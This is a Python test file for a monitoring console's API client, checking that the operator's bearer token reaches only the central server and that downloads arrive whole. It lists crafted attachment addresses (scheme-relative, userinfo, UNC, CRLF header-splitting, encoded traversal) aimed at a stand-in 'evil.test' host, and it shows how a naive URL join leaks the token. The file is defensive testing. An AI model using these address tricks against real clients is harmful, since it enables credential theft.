"""The operator's token goes only to central's own origin, and downloads arrive whole.

Two real servers on loopback: one acts as central (it serves a photo only with the bearer
token), the other as "evil" and records anything it is sent. Every trick a field user could
put in an attachment or evidence address is tried through the client, the evidence pack and
the user-facing message: evil never hears from the console, central is not asked either, the
operator reads why in their language, and the log names the refused address without the token.
"""

from __future__ import annotations

import hashlib
import logging
import socket
from collections.abc import AsyncIterator
from typing import Any

import aiohttp
import pytest
from aiohttp import web
from PySide6.QtCore import QCoreApplication

from console.alarms.context import AlarmContext
from console.alarms.evidence_export import collect
from console.media.errors import fetch_failure_text
from console.sync.client import ApiClient, RefusedAddress, ServerRejected
from console.sync.urls import RefusedReference, central_media_url, central_url
from resources.i18n import install_translator
from tests.console.loopback import Recorder, jpeg_bytes, media_path, png_bytes, slow_sender

pytestmark = pytest.mark.timeout(60)

TOKEN = "s3cret-operator-token"
PHOTO = png_bytes(64, 36)
PHOTO_PATH = media_path(PHOTO, "png")
REFUSED_EN = "The attachment address is not on this central server; not downloaded."
REFUSED_ZH = "附件地址不属于本中心服务器，已拒绝下载。"
HEX = "a" * 64


def tricks(evil: str) -> list[str]:
    """Addresses a field user could type to make a naive ``base_url + path`` leave central;
    ``evil`` is the attacker's ``host:port``."""
    return [
        f".{evil}/x.jpg",                   # central.example.gov.cn.attacker.example
        f"//{evil}/media/{HEX}.jpg",        # scheme-relative
        f"@{evil}/media/{HEX}.jpg",         # base becomes user info
        f":x@{evil}/media/{HEX}.jpg",
        f"/@{evil}/media/{HEX}.jpg",
        f"\\\\{evil}\\media\\{HEX}.jpg",    # UNC-style back-slashes
        f"/\\{evil}/media/{HEX}.jpg",
        f"http://{evil}/media/{HEX}.jpg",
        f"https://{evil}/media/{HEX}.jpg",
        f"HTTP://{evil}/",
        f"media/{HEX}.jpg",                 # not starting with "/"
        f"/media/../..//{evil}/{HEX}.jpg",
        f"/media/%2e%2e/%2e%2e/{HEX}.jpg",
        f"/media/%2f%2f{evil}/{HEX}.jpg",
        f"/media/%252e%252e/{HEX}.jpg",     # double encoding
        f"/media/{HEX}.jpg\r\nHost: {evil}",  # header splitting
        f"/media/{HEX}.jpg\x00.png",
        f"/media/{HEX}.jpg#@{evil}",
        f"/media/{HEX}.jpg?u=http://{evil}/",
        f"/media/{HEX}.gif",                # not central media
        "/api/me",                          # a central path, but not media
        f"/media/{HEX[:63]}.jpg",
        f"/ｍedia/{HEX}.jpg",                 # full-width letter
        "",
    ]


CENTRAL_HOST = "central.test"
EVIL_HOST = "evil.test"


class LoopbackNames(aiohttp.abc.AbstractResolver):
    """Name resolution for two made-up domains (none exist here): ``central.test`` is the
    central stand-in, any name ending in ``evil.test`` (``central.test.evil.test`` too) the
    evil one; each on its loopback port, whatever port the URL says."""

    def __init__(self, central: Recorder, evil: Recorder) -> None:
        self.ports = {CENTRAL_HOST: central.port, EVIL_HOST: evil.port}

    async def resolve(self, host: str, port: int = 0,
                      family: int = socket.AF_INET) -> list[dict[str, Any]]:
        name = EVIL_HOST if host.endswith(EVIL_HOST) else host
        if name not in self.ports:
            raise OSError(f"no such host {host}")
        return [{"hostname": host, "host": "127.0.0.1", "port": self.ports[name],
                 "family": socket.AF_INET, "proto": 0, "flags": socket.AI_NUMERICHOST}]

    async def close(self) -> None:
        pass


@pytest.fixture
async def servers() -> AsyncIterator[tuple[Recorder, Recorder]]:
    central = Recorder()

    async def photo(request: web.Request) -> web.Response:
        if request.headers.get("Authorization") != f"Bearer {TOKEN}":
            return web.json_response({"error": "not_logged_in", "message": "log in"},
                                     status=401)
        return web.Response(body=PHOTO, content_type="image/png")

    central.routes[("GET", PHOTO_PATH)] = photo
    evil = Recorder()

    async def steal(request: web.Request) -> web.Response:
        return web.Response(body=jpeg_bytes(1000), content_type="image/jpeg")

    evil.routes[("GET", f"/media/{HEX}.jpg")] = steal
    await central.start()
    await evil.start()
    try:
        yield central, evil
    finally:
        await central.stop()
        await evil.stop()


def client_for(central: Recorder, evil: Recorder) -> ApiClient:
    """A client of ``http://central.test`` whose session resolves the made-up names."""
    client = ApiClient(f"http://{CENTRAL_HOST}")
    client.token = TOKEN
    client._session = aiohttp.ClientSession(
        connector=aiohttp.TCPConnector(resolver=LoopbackNames(central, evil)))
    return client


# -- the join itself ----------------------------------------------------------------------------

@pytest.mark.parametrize("reference", tricks("evil.example:443"))
def test_every_trick_is_refused_by_the_one_join(reference: str) -> None:
    with pytest.raises(RefusedReference):
        central_media_url("https://central.example.gov.cn", reference)


@pytest.mark.parametrize("reference", [
    ".attacker.example/x.jpg", "//evil/x", "@evil/x", "\\\\evil\\x", "http://evil/",
    "api/me", "/api/../../evil", "/api/%2e%2e/x", "/api/a%2fb", "/api/a%5cb", "/api/me\t",
    "/api/me\x7f", "/a b", "/api/é", "/api/%zz", "/api/%ff"])
def test_non_media_paths_are_refused_too(reference: str) -> None:
    with pytest.raises(RefusedReference):
        central_url("https://central.example.gov.cn", reference)


def test_what_the_client_sends_is_joined_to_the_server_as_it_is() -> None:
    base = "https://central.example.gov.cn:8443/kw"
    url = central_url(base, "/api/sensors/S%201/readings?from=2026-01-01T00%3A00%3A00Z&to=x")
    assert str(url) == ("https://central.example.gov.cn:8443/kw/api/sensors/S%201/readings"
                        "?from=2026-01-01T00%3A00%3A00Z&to=x")
    assert str(central_media_url(base, f"/media/{HEX}.png")) == \
        f"https://central.example.gov.cn:8443/kw/media/{HEX}.png"
    for clip in (f"/media/{HEX}.mp4", f"/media/{HEX}.ts"):  # an AI box's clip of its event
        assert str(central_media_url(base, clip)) == f"https://central.example.gov.cn:8443/kw{clip}"
    for other in (f"/media/{HEX}.mkv", f"/media/{HEX}.ts.jpg", f"/media/{HEX}.tsx"):
        with pytest.raises(RefusedReference):
            central_media_url(base, other)


# -- over real sockets ----------------------------------------------------------------------------

async def test_the_evil_server_would_get_the_token_from_a_naive_join(servers) -> None:
    """The threat is real: ``base_url + path`` with ``.evil.test/...`` sends the token to
    ``central.test.evil.test`` (what the console used to do), and the recorder sees it."""
    central, evil = servers
    client = client_for(central, evil)
    try:
        async with client.session.get(client.base_url + f".{EVIL_HOST}/media/{HEX}.jpg",
                                      headers={"Authorization": f"Bearer {TOKEN}"}) as resp:
            assert resp.status == 200
    finally:
        await client.close()
    assert evil.tokens() == [f"Bearer {TOKEN}"]


async def test_no_trick_reaches_any_server_and_the_user_is_told(servers, caplog) -> None:
    central, evil = servers
    client = client_for(central, evil)
    caplog.set_level(logging.INFO)
    try:
        for reference in tricks(EVIL_HOST):
            with pytest.raises(RefusedAddress) as refused:
                await client.fetch_bytes(reference)
            assert fetch_failure_text(refused.value) == REFUSED_EN
            assert TOKEN not in refused.value.message
        for reference in (f"//{EVIL_HOST}/api/me", f"@{EVIL_HOST}/api/me",
                          f"http://{EVIL_HOST}/api/me", f".{EVIL_HOST}/api/me"):
            with pytest.raises(RefusedAddress):
                await client.request("GET", reference)
        assert evil.seen == [], "the evil server was contacted"
        assert central.seen == [], "a refused address was fetched"
        # The real photo still comes, with the token, from central.
        assert await client.fetch_bytes(PHOTO_PATH) == PHOTO
        assert central.tokens() == [f"Bearer {TOKEN}"]
    finally:
        await client.close()
    refusals = [r for r in caplog.records if "refused to contact" in r.getMessage()]
    assert len(refusals) >= len(tricks(EVIL_HOST))
    assert any(EVIL_HOST in r.getMessage() for r in refusals)
    assert all(TOKEN not in r.getMessage() for r in caplog.records)


async def test_the_refusal_reads_in_chinese(servers, qapp) -> None:
    central, evil = servers
    client = client_for(central, evil)
    try:
        assert install_translator(qapp, "zh_CN")
        with pytest.raises(RefusedAddress) as refused:
            await client.fetch_bytes(f".{EVIL_HOST}/x.jpg")
        assert fetch_failure_text(refused.value) == REFUSED_ZH
    finally:
        install_translator(qapp, "en")
        await client.close()
    assert evil.seen == []


async def test_the_evidence_pack_fetches_only_central_media(servers, qapp) -> None:
    central, evil = servers
    client = client_for(central, evil)
    bad = tricks(EVIL_HOST)
    ctx = AlarmContext(
        alarm={"id": "A1", "district_id": "D01", "business_id": "B1", "kind": "ai",
               "violation": "rodent", "state": "open", "severity": 3,
               "opened_at": "2026-12-01T08:00:00+00:00", "evidence_url": bad[0]},
        task={"id": "T1", "district_id": "D01", "business_id": "B1", "alarm_id": "A1",
              "state": "review", "title": "整改", "evidence_url": bad[1], "version": 2,
              "created_at": "2026-12-01T08:05:00+00:00",
              "updated_at": "2026-12-01T09:00:00+00:00"},
        events=[{"id": f"E{i}", "task_id": "T1", "action": "submit_review", "actor": "li.na",
                 "ts": f"2026-12-01T09:{i:02d}:00+00:00", "attachment_url": url}
                for i, url in enumerate([PHOTO_PATH, *bad[2:10]])])
    try:
        collected = await collect(ctx, client, generated_by="operator", mask_personal=False)
    finally:
        await client.close()
    assert evil.seen == [], "the evidence pack sent a request to another host"
    assert [s.path_qs for s in central.seen] == [PHOTO_PATH]
    assert central.tokens() == [f"Bearer {TOKEN}"]
    assert collected.pack.attachments == {PHOTO_PATH: PHOTO}
    refused = [m for m in collected.missing if REFUSED_EN in m]
    assert len(refused) == len(collected.missing) >= 9, collected.missing


async def test_a_redirect_from_central_is_not_followed(servers) -> None:
    central, evil = servers
    moved = "/media/" + "c" * 64 + ".jpg"

    async def redirect(request: web.Request) -> web.Response:
        raise web.HTTPFound(f"http://{EVIL_HOST}/media/{HEX}.jpg")

    central.routes[("GET", moved)] = redirect
    client = client_for(central, evil)
    try:
        with pytest.raises(ServerRejected) as refused:
            await client.fetch_bytes(moved)
    finally:
        await client.close()
    assert refused.value.status == 302
    assert evil.seen == []


# -- downloads read whole -------------------------------------------------------------------------

@pytest.mark.parametrize("content_length", [True, False], ids=["content-length", "chunked"])
async def test_a_large_image_on_a_slow_link_arrives_whole(servers, content_length) -> None:
    central, evil = servers
    data = jpeg_bytes(2 * 1024 * 1024 + 17)
    path = media_path(data, "jpg")
    central.routes[("GET", path)] = slow_sender(data, chunk=48 * 1024, pause_s=0.005,
                                                content_length=content_length, token=TOKEN)
    client = client_for(central, evil)
    try:
        got = await client.fetch_bytes(path)
    finally:
        await client.close()
    received, sent = len(got), len(data)
    assert received == sent, "the download was cut short"
    assert hashlib.sha256(got).hexdigest() == hashlib.sha256(data).hexdigest()


@pytest.mark.parametrize("content_length", [True, False], ids=["content-length", "chunked"])
async def test_an_answer_over_the_limit_is_refused_whole(servers, content_length) -> None:
    central, evil = servers
    data = jpeg_bytes(300 * 1024)
    path = media_path(data, "jpg")
    central.routes[("GET", path)] = slow_sender(data, chunk=16 * 1024, pause_s=0.002,
                                                content_length=content_length, token=TOKEN)
    client = client_for(central, evil)
    try:
        with pytest.raises(ServerRejected) as too_large:
            await client.fetch_bytes(path, max_bytes=200 * 1024)
        assert too_large.value.code == "too_large" and too_large.value.status == 413
        assert str(200 * 1024) in too_large.value.message
        assert await client.fetch_bytes(path, max_bytes=len(data)) == data  # at the limit
    finally:
        await client.close()


async def test_a_missing_photo_and_an_expired_session_are_told_apart(servers, qapp) -> None:
    central, evil = servers
    client = client_for(central, evil)
    try:
        with pytest.raises(ServerRejected) as missing:
            await client.fetch_bytes(f"/media/{HEX}.jpg")
        assert missing.value.status == 404
        client.token = "stale"
        from console.sync.client import AuthError

        with pytest.raises(AuthError) as expired:
            await client.fetch_bytes(PHOTO_PATH)
    finally:
        await client.close()
    assert "404" in fetch_failure_text(missing.value)
    assert "log in again" in fetch_failure_text(expired.value)
    assert QCoreApplication.translate("CentralMedia", REFUSED_EN) == REFUSED_EN


def test_the_live_connection_address_is_joined_the_same_way() -> None:
    client = ApiClient("https://central.example.gov.cn:8443")
    client.token = "a/b+c="
    url = client.ws_url(42)
    assert (url.scheme, url.host, url.port, url.path) == (
        "https", "central.example.gov.cn", 8443, "/api/ws")
    assert dict(url.query) == {"since": "42"}  # the token travels in the header only
    assert "a/b+c=" not in str(url)


def test_the_alarm_panel_says_why_its_evidence_is_missing(qtbot) -> None:
    from console.sync.urls import RefusedReference as Refused
    from widgets.evidence_view import EvidenceView

    view = EvidenceView()
    qtbot.addWidget(view)
    assert view.placeholder_text() == "No evidence image"
    view.set_unavailable(fetch_failure_text(RefusedAddress(Refused(".evil/x.jpg", "no"))))
    assert view.placeholder_text() == REFUSED_EN and view.image() is None
    view.set_image(PHOTO)
    assert view.image() is not None and view.placeholder_text() == "No evidence image"
